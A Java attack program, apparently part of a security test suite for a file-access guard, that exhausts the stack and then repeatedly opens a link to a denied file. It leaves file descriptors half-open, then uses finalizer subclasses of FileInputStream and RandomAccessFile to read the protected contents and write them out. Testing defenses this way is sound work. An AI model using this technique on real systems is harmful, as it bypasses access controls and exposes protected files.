package dev.agentguard.apps.attacks;

import java.io.FileInputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Issue-13 attack pass: the check after a read open runs on whatever stack the caller left. The attacker
 * recurses to the stack's end and opens a planted link to a denied file at every depth on the way back up.
 * Where the stack is deep enough for the decision on the name (before the open) but not for the check after
 * it, or for the close of the opened descriptor on a denial, the descriptor stays open inside the half-made
 * stream. The stream is a subclass with a finalizer, which brings it back after the constructor threw and
 * reads through it.
 *
 * <p>Usage: {@code StackEdgeAttack <kind: stream|raf> <link to the denied file> <file to write what was read>
 * <rounds>}. Prints {@code LEAKED <kind>} after writing the bytes read to the file, or {@code HELD <kind>
 * attempts=N overflows=M}; the test checks the written file from outside.
 */
public final class StackEdgeAttack {
    static volatile String leaked;
    static String target;
    static String kind;
    static int attempts;
    static int overflows;

    /** A read stream whose finalizer reads through whatever descriptor the half-made stream holds. */
    static final class Grab extends FileInputStream {
        Grab(String name) throws IOException {
            super(name);
        }

        @Override
        @SuppressWarnings({"deprecation", "removal"})
        protected void finalize() {
            try {
                byte[] bytes = new byte[4096];
                int n = read(bytes);
                if (n > 0 && leaked == null) {
                    leaked = new String(bytes, 0, n, StandardCharsets.UTF_8);
                }
            } catch (Throwable ignored) {
                // a closed descriptor: nothing to read
            }
        }
    }

    /** The same through a RandomAccessFile opened for reading. */
    static final class GrabFile extends RandomAccessFile {
        GrabFile(String name) throws IOException {
            super(name, "r");
        }

        @Override
        @SuppressWarnings({"deprecation", "removal"})
        protected void finalize() {
            try {
                byte[] bytes = new byte[4096];
                int n = read(bytes);
                if (n > 0 && leaked == null) {
                    leaked = new String(bytes, 0, n, StandardCharsets.UTF_8);
                }
            } catch (Throwable ignored) {
                // as above
            }
        }
    }

    private StackEdgeAttack() {}

    public static void main(String[] args) throws Exception {
        kind = args[0];
        target = args[1];
        Path out = Path.of(args[2]);
        int rounds = Integer.parseInt(args[3]);
        for (int round = 0; round < rounds && leaked == null; round++) {
            descend(0);
            System.gc();
            System.runFinalization();
        }
        for (int i = 0; i < 5 && leaked == null; i++) {
            System.gc();
            System.runFinalization();
            Thread.sleep(20);
        }
        if (leaked != null) {
            Files.writeString(out, leaked);
            System.out.println("LEAKED " + kind);
        } else {
            System.out.println("HELD " + kind + " attempts=" + attempts + " overflows=" + overflows);
        }
    }

    /** Recurses to the end of the stack, then tries the open once at every depth on the way back. */
    static void descend(int depth) {
        try {
            descend(depth + 1);
        } catch (StackOverflowError e) {
            // the end: from here up, every depth gets one try
        }
        attempts++;
        try {
            if (kind.equals("raf")) {
                new GrabFile(target).close();
            } else {
                new Grab(target).close();
            }
        } catch (StackOverflowError e) {
            overflows++;
        } catch (Throwable t) {
            // denied, as it should be
        }
    }
}
